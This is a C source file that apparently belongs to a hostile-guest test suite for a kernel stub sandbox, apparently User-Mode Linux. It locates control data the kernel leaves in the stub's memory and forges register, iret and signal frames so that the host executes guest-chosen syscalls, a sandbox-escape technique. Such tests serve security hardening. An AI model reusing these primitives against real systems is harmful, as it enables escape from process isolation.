// SPDX-License-Identifier: GPL-2.0-only
/*
 * Stubs that park: finding the control page, which the library's code reads after
 * a resume and which the guest can fill before it jumps there; and parking by
 * hand. The layout is not known here: the attacks search for values that the
 * kernel has put there.
 */
#include "hostile.h"

struct control control;
struct park park;

static bool in_data(uint64_t addr)
{
	return addr >= stub.data && addr < stub.end;
}

/* Finds the registers of a call that has just been made, and its return address. */
static bool find_registers(void)
{
	uint64_t mark[7], *word, *end = (uint64_t *)stub.end - 5;

	make_marks(mark);
	report_marks(mark);
	control.gp = control.iret = NULL;
	for (word = (uint64_t *)stub.data; word < end; word++) {
		if (!control.gp && word + REG_RIP < end && has_marks(word, mark))
			control.gp = word;
		if (!control.iret && word[0] == (uint64_t)report_marks_back &&
		    word[1] == segment_cs() && word[4] == segment_ss())
			control.iret = word;
	}
	if (!control.gp || control.iret != control.gp + CONTROL_GP + 1)
		return false;
	/* between the two are the flags and the batch's length, which is 0 */
	control.flags = (volatile uint32_t *)(control.gp + CONTROL_GP);
	control.calls = control.flags + 1;
	control.back = *control.flags;
	return *control.calls == 0;
}

/* Finds the batch of a page fault, which maps one page. */
static bool find_batch(void)
{
	uintptr_t page = reserve(PAGE);
	uint64_t *word;

	*(volatile char *)page = 1;
	control.with_fd = *control.flags;
	if (*control.calls != 1)
		return false;
	control.batch = control.message = NULL;
	for (word = control.iret; word < (uint64_t *)stub.end - 4; word++) {
		if (!control.batch && word[0] == page && word[1] == PAGE)
			control.batch = word;
		if (!control.message && in_data(word[0]) && word[1] == 1)
			control.message = word - 2;
	}
	/* no message: the stub has the memory's fd all the time */
	if (!control.batch)
		return false;
	memcpy(control.entry, control.batch, sizeof(control.entry));
	return true;
}

bool find_control(void)
{
	int i;

	if (control.batch)
		return true;
	/* a timer tick in between overwrites the values */
	for (i = 0; i < 100; i++)
		if (find_registers() && find_batch())
			return true;
	control.back = 0;
	return false;
}

void prefill(uint32_t flags, uint32_t calls, const struct host_call *call)
{
	const uint64_t gp[CONTROL_GP] = {
		call->arg[4], call->arg[5], call->arg[3], 0, call->r12,
		call->r13, call->r14, call->r15, call->arg[0], call->arg[1],
		call->rbp, call->rbx, call->arg[2], CAME_BACK, 0,
	};

	memcpy(control.gp, gp, sizeof(gp));
	control.iret[0] = (uint64_t)landing;
	control.iret[1] = call->iret.cs;
	control.iret[2] = 0x202;
	control.iret[3] = call->iret.rsp;
	control.iret[4] = call->iret.ss;
	*control.flags = flags;
	*control.calls = calls;
}

siginfo_t *park_siginfo(void)
{
	return (siginfo_t *)((uintptr_t)park.frame + FRAME_UCONTEXT_SIZE);
}

/* The floating-point state follows, aligned for XSAVE. */
struct _libc_fpstate *park_fpstate(void)
{
	uintptr_t end = (uintptr_t)(park_siginfo() + 1);

	return (struct _libc_fpstate *)((end + 63) & ~63UL);
}

void make_park_frame(uintptr_t rip)
{
	greg_t *regs = park.frame->uc_mcontext.gregs;
	static char stack[4 * PAGE] __attribute__((aligned(16)));
	uintptr_t start = (uintptr_t)park.frame & ~(PAGE - 1);
	static const long none[6];
	struct host_call call;

	/* no page fault may replace the frame before it is used */
	prepare_call(&call, park.site, park.nr, none);
	landing_flags = 0;
	/* zeros are a sound floating-point state */
	memset((void *)start, 0, stub.end - start);
	park.frame->uc_mcontext.fpregs = park_fpstate();
	park_fpstate()->mxcsr = 0x1f80;
	park_fpstate()->cwd = 0x37f;
	regs[REG_RIP] = (greg_t)rip;
	regs[REG_RSP] = (greg_t)(stack + sizeof(stack) - 8);
	regs[REG_EFL] = 0x202;
	regs[REG_CSGSFS] = (greg_t)((uint64_t)segment_ss() << 48 | segment_cs());
}

void set_park_syscall(int32_t nr)
{
	memcpy((char *)park_siginfo() + SIGINFO_SYSCALL, &nr, sizeof(nr));
}

long forge_park_at(uintptr_t entry, uint64_t eflags, uint64_t what, uint64_t second,
		   uint64_t third)
{
	const long arg[6] = { (long)what, (long)second, (long)third,
			      park.ticket ? (long)(*park.ticket + park.forged) : 0 };
	struct host_call call;

	prepare_call(&call, entry, park.nr, arg);
	call.iret.eflags = eflags;
	return host_call_raw(&call);
}

long forge_park(uint64_t what, uint64_t second, uint64_t third)
{
	return forge_park_at(park.site, 0x202, what, second, third);
}

#define TICKET_ROUNDS	1024
#define TICKET_HITS	16

/*
 * The ticket is a word that grows by one at each resume. It grows by more where a
 * timer tick comes in between, on a busy host in most rounds: so there are rounds
 * until one word has grown by one often enough.
 */
static uint64_t *find_ticket(void)
{
	static uint64_t before[2 * PAGE / sizeof(uint64_t)];
	static unsigned int hits[ARRAY_SIZE(before)];
	uint64_t *data = (uint64_t *)stub.data;
	size_t n = (stub.end - stub.data) / sizeof(*data), i, most = 0;
	uintptr_t page = reserve(2 * TICKET_ROUNDS * PAGE);
	unsigned int round;

	if (n > ARRAY_SIZE(before))
		return NULL;
	memset(hits, 0, sizeof(hits));
	for (round = 0; round < TICKET_ROUNDS && hits[most] < TICKET_HITS; round++) {
		memcpy(before, data, n * sizeof(*data));
		/* not the next page, which that fault may have mapped ahead */
		*(volatile char *)(page + (uintptr_t)round * 2 * PAGE) = 1;
		for (i = 0; i < n; i++) {
			hits[i] += before[i] && data[i] == before[i] + 1;
			if (hits[i] > hits[most])
				most = i;
		}
	}
	return hits[most] == TICKET_HITS ? &data[most] : NULL;
}

#define PARKED	77

/* Forges the park of a guest call. If the kernel believes it, it makes that call. */
static void try_park(void *arg)
{
	park = *(struct park *)arg;
	limit_child();
	make_park_frame((uintptr_t)landing);
	park.frame->uc_mcontext.gregs[REG_RDI] = PARKED;
	set_park_syscall(SYS_exit_group);
	forge_park(SIGSYS, (uint64_t)park_siginfo(), (uint64_t)park.frame);
	_exit(1);
}

bool find_park(void)
{
	struct park try = { .ticket = find_ticket() };
	uintptr_t frame, lowest = stub.data;
	unsigned int i;
	int status;

	if (park.site)
		return true;
	step("looking for the park");
	for (i = 0; i < stub.nsites; i++) {
		try.site = stub.site[i];
		try.nr = stub.nr[i];
		frame = stub.end - FRAME_UCONTEXT_SIZE - sizeof(siginfo_t) - PAGE / 8;
		for (frame &= ~15UL; try.nr >= 0 && frame >= lowest; frame -= 16) {
			try.frame = (ucontext_t *)frame;
			status = in_child(try_park, &try);
			if (WIFEXITED(status) && WEXITSTATUS(status) == PARKED) {
				park = try;
				return true;
			}
		}
	}
	return false;
}
